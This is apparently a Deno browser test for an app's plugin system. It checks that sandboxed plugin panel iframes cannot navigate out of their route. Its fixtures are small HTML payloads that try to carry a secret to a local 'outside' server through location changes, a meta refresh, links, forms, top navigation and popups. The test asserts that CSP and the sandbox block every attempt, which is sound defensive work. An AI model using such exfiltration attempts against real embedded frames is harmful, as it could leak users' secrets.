/**
 * Issue 29, item 9: a plugin's `ui` panel cannot carry what it was given out of its frame by navigating.
 * In Chromium, the app's own page (a real `dock agent`, its app with the token) frames a plugin's panels
 * as the app does (`sandbox="allow-scripts"`), each trying one way out: setting its own `location`, a
 * meta refresh, a link, a form, the top window, a popup, and same-origin pages outside the panel route
 * (the API, the app). An "outside" server on another loopback port must receive nothing; what stops a
 * frame navigating itself is the app page's `frame-src` (Chromium has no `navigate-to`), which allows
 * only the panel route; a panel may still move to another of its own files.
 */
import { join } from "node:path";
import { assert, assertEquals } from "./assert.ts";
import { AgentClient } from "../client/agent.ts";
import { CHROMIUM_MISSING, launchChromium } from "./browser.ts";
import { freePort, makeDirs, startAgent } from "./harness.ts";
import { until } from "./wait.ts";

// What runs in the page: this file is type-checked without the DOM's types (as tests/app_test.ts).
// deno-lint-ignore no-explicit-any
declare const document: any;
// deno-lint-ignore no-explicit-any
type PageEvent = any;

/**
 * Each panel's one attempt, after it tells the app it is about to try (`{ tried }`: a frame whose
 * navigation is refused is replaced, so nothing after the attempt would run).
 */
function panels(outside: string): Record<string, string> {
  const tried = (name: string) => `parent.postMessage({ tried: "${name}" }, "*");`;
  const secret = `encodeURIComponent("secret-given-to-the-panel")`;
  const script = (name: string, attempt: string) => `<script>${tried(name)} ${attempt}</script>`;
  return {
    "self.html": script("self", `location.href = "${outside}/self?d=" + ${secret};`),
    "assign.html": script("assign", `location.assign("${outside}/assign");`),
    "meta.html": `${script("meta", "")}<meta http-equiv="refresh" content="0;url=${outside}/meta">`,
    "link.html": `<a id="a" href="${outside}/link">x</a>${
      script("link", `document.getElementById("a").click();`)
    }`,
    "form.html": `<form action="${outside}/form"><input name="d" value="x"></form>${
      script("form", "try { document.forms[0].submit(); } catch {}")
    }`,
    "top.html": script("top", `try { top.location.href = "${outside}/top"; } catch {}`),
    "popup.html": script("popup", `try { open("${outside}/popup"); } catch {}`),
    "api.html": script("api", `location.href = "/v1/status?d=" + ${secret};`),
    "app.html": script("app", `location.href = "/app/?d=" + ${secret};`),
    "next.html": script("next", `location.href = "ok.html";`),
    "ok.html": `<p id="ok">ok</p><script>parent.postMessage({ arrived: location.pathname }, "*");</script>`,
  };
}

Deno.test({
  name: "a plugin panel cannot navigate out of its route: nothing reaches an outside server",
  ignore: CHROMIUM_MISSING,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const seen: string[] = [];
    const outsidePort = freePort();
    const outsideServer = Deno.serve(
      { port: outsidePort, hostname: "127.0.0.1", onListen: () => {} },
      (request) => {
        seen.push(new URL(request.url).pathname + new URL(request.url).search);
        return new Response("outside");
      },
    );
    const outside = `http://127.0.0.1:${outsidePort}`;
    const dirs = await makeDirs();
    const env = { DOCK_PLUGIN_SCAN_MS: "100" };
    await using agent = await startAgent(dirs, { env });
    const browser = await launchChromium();
    const client = new AgentClient({ url: agent.url, token: agent.token, origin: "test" });
    try {
      const dir = join(dirs.dockHome, "plugins", "leaky");
      await Deno.mkdir(join(dir, "ui"), { recursive: true });
      const files = panels(outside);
      for (const [name, text] of Object.entries(files)) {
        await Deno.writeTextFile(join(dir, "ui", name), `<!doctype html><meta charset="utf-8">${text}`);
      }
      await Deno.writeTextFile(
        join(dir, "dock-plugin.json"),
        JSON.stringify({ id: "leaky", name: "Leaky", version: "1.0.0", ui: ["ui/"], permissions: {} }),
      );
      const info = await until(
        async () => (await client.plugins()).find((p) => p.id === "leaky"),
        { on: client, timeoutMs: 30_000 },
      );
      await client.enablePlugin("leaky", info.permissions ?? {});

      const page = await browser.newPage();
      const console: string[] = [];
      page.on("console", (message) => console.push(message.text()));
      await page.goto(`${agent.url}/app/#token=${agent.token}`);
      await page.waitForFunction(() => !globalThis.location.hash.includes("token"));
      const attempts = Object.keys(files).filter((name) => name !== "ok.html");
      // The app's frames, as app/src/panel.tsx makes them; the page records what its frames tell it and
      // what its policy refused.
      await page.evaluate((names: string[]) => {
        const record = globalThis as unknown as { tried: string[]; arrived: string[]; refused: string[] };
        record.tried = [];
        record.arrived = [];
        record.refused = [];
        addEventListener("message", (event: PageEvent) => {
          if (event.data?.tried) record.tried.push(event.data.tried);
          if (event.data?.arrived) record.arrived.push(event.data.arrived);
        });
        document.addEventListener("securitypolicyviolation", (event: PageEvent) => {
          record.refused.push(`${event.effectiveDirective} ${event.blockedURI}`);
        });
        for (const name of names) {
          const frame = document.createElement("iframe");
          frame.className = "panel-frame";
          frame.setAttribute("sandbox", "allow-scripts");
          frame.src = `/app/plugins/laptop/leaky/ui/${name}`;
          document.body.append(frame);
        }
      }, attempts);

      // Every panel ran its attempt; the one that moved to its own file got there; every self-navigation
      // out of the route was refused by the app page's frame-src (the outside server's four, and the
      // agent's own API and app).
      type Record_ = { tried: string[]; arrived: string[]; refused: string[] };
      const outsidePaths = ["self", "assign", "meta", "link"];
      const refusals = outsidePaths.length + 2;
      await page.waitForFunction(
        ({ count, refusals }: { count: number; refusals: number }) => {
          const r = globalThis as unknown as Record_;
          return r.tried.length === count && r.arrived.length === 1 &&
            r.refused.filter((x) => x.startsWith("frame-src")).length >= refusals;
        },
        { count: attempts.length, refusals },
      ).catch(async (error) => {
        const r = await page.evaluate(() => {
          const { tried, arrived, refused } = globalThis as unknown as Record_;
          return { tried, arrived, refused };
        });
        throw new Error(
          `${error.message}\nthe page saw: ${JSON.stringify(r)}\nthe outside server saw: ${seen}`,
        );
      });
      const { tried, arrived, refused } = await page.evaluate(() => {
        const r = globalThis as unknown as Record_;
        return { tried: [...r.tried].sort(), arrived: r.arrived, refused: r.refused };
      });
      assertEquals(tried, attempts.map((name) => name.replace(".html", "")).sort());
      assertEquals(arrived, ["/app/plugins/laptop/leaky/ui/ok.html"]);
      // Chromium reports a refused frame of another origin by its origin only.
      assertEquals(
        refused.filter((r) => r === `frame-src ${outside}`).length,
        outsidePaths.length,
        refused.join("\n"),
      );
      for (const path of ["/v1/status?d=", "/app/?d="]) {
        assert(refused.some((r) => r.startsWith(`frame-src ${agent.url}${path}`)), refused.join("\n"));
      }
      // The sandbox refused the form, the top window and the popup, each saying so (no allow-forms,
      // allow-top-navigation or allow-popups), before any request could leave.
      const blocked = await until(() => {
        const found = [
          (text: string) => text.includes(`submission to '${outside}/form`) && text.includes("allow-forms"),
          (text: string) => text.includes("leaky/ui/top.html") && text.includes("allow-top-navigation"),
          (text: string) => text.includes(`opening '${outside}/popup`) && text.includes("allow-popups"),
        ].map((matches) => console.find(matches));
        return Promise.resolve(found.every(Boolean) ? found : undefined);
      }).catch(() => {
        throw new Error(`the sandbox's refusals were not all logged:\n${console.join("\n")}`);
      });
      assertEquals(blocked.length, 3);
      // No popup, and the app is still the top page.
      assertEquals(browser.contexts()[0].pages().length, 1);
      assertEquals(new URL(page.url()).pathname, "/app/");
      // What the outside server saw: nothing at all.
      assertEquals(seen, []);
    } finally {
      client.close();
      await browser.close();
      await outsideServer.shutdown();
    }
  },
});
